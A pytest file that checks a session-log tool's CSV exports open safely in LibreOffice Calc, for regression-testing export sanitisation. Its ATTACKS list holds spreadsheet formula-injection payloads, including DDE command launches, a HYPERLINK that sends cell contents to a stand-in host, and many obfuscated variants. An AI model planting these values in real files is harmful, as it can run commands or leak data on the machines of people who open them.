"""The tables opened in a real spreadsheet: whatever was typed is words there, and all of them are there.

Where LibreOffice Calc is not installed these tests are skipped, and say so.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from facilitator.live.facts import Recorded
from facilitator.live.facts.entries import AddAction, AddNote, AddParking
from facilitator.live.facts.groups import AttendanceCounted, RenameGroup
from facilitator.live.facts.issues import CaptureIssue
from facilitator.live.facts.review import CommentMade
from facilitator.live.facts.tallies import TallyTaken
from facilitator.sessionlog.build import session_log
from facilitator.sessionlog.formats import render
from facilitator.sessionlog.model import SessionLog
from facilitator.sessionlog.tables import NAMES
from tests.sessionlog import day
from tests.sessionlog.readers import Seen, in_calc, needs_calc

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "\n=1+4",
    "   =1+5",
    "\u00a0=1+6",
    "\uff1d1+7 wide",
    "\uff0b1+8 wide",
    '=HYPERLINK("http://example.invalid?x="&A1;"click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://example.invalid")',
    '"=1+9',
    '","=1+10","',
    "quoted \"words\" and 'others'",
    "one; two;=1+11;three",
    "one\t=1+12",
    "one, two,=1+13",
    'one";"=1+20',
    'one;"=1+21"',
    "one; \t=1+22",
    "one;\u00a0=1+23; -1+24",
    'one\n"=1+25',
    "first line\n=1+14\nthird line",
    "'=1+15",
    "%0A=1+16",
    "=1+17\x00",
    "\ufeff=1+18",
    "\u200b=1+19",
)
"""Words that a spreadsheet might run, follow or reckon with."""

PLAIN = re.compile(r"\d+(\.\d)?|\d{4}-\d\d-\d\d( \d\d:\d\d:\d\d)?")
"""What a table holds as a number or a time of its own."""

WORDS = re.compile(r"\w+")


def attacked() -> SessionLog:
    """A day on which everything that can be typed into a table says one of them."""
    teller = day.at_report_back().do(RenameGroup("G2", ATTACKS[0]))
    for number, attack in enumerate(ATTACKS):
        teller.do(CaptureIssue("G2", attack), AddParking(attack, attack))
        teller.do(AddAction(attack, attack, attack), AddNote(attack), every=4)
        happened = (
            AttendanceCounted(attack, 7),
            TallyTaken(f"T{number}", "question", attack, (5, 6), "", "yes-no"),
            CommentMade(f"C{number}", attack, attack),
        )
        for event in happened:
            teller.entries.append(Recorded(len(teller.entries) + 1, teller.now, attack, event))
    return session_log(day.RUN, teller.entries)


@pytest.fixture(scope="module")
def tables() -> dict[str, bytes]:
    """The tables of the attacked day, everything in them."""
    return dict(zip(NAMES, render(attacked(), ["csv"], "full").values(), strict=True))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder for all, so that the spreadsheet sets itself up only once."""
    return tmp_path_factory.mktemp("calc")


@needs_calc
@pytest.mark.parametrize("separators", ["44", "44/59/9", "59"])
def test_a_spreadsheet_takes_nothing_for_a_formula(tables: dict[str, bytes], folder: Path, separators: str) -> None:
    """Also where it parts cells at semicolons and tabs, as many are set up to; and every word is still there."""
    seen = in_calc(tables, folder, separators)
    for name, rows in seen.items():
        assert not [cell for row in rows for cell in row if cell.formula], name
        if separators == "44":
            as_written(tables[name], rows)
    for name in ("issues.csv", "entries.csv", "facts.csv"):
        said = " ".join(word for row in seen[name] for cell in row for word in WORDS.findall(cell.words))
        assert [attack for attack in ATTACKS if " ".join(WORDS.findall(attack)) not in said] == []


def as_written(table: bytes, seen: list[list[Seen]]) -> None:
    """Every cell shows the words it was written with; a number or a date is only where one was written."""
    rows = csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""))
    for written, shown in zip(([cell for cell in row if cell] for row in rows), seen, strict=True):
        for words, cell in zip(written, shown, strict=True):
            assert cell.words == words if cell.kind == "string" else PLAIN.fullmatch(words), (words, cell)
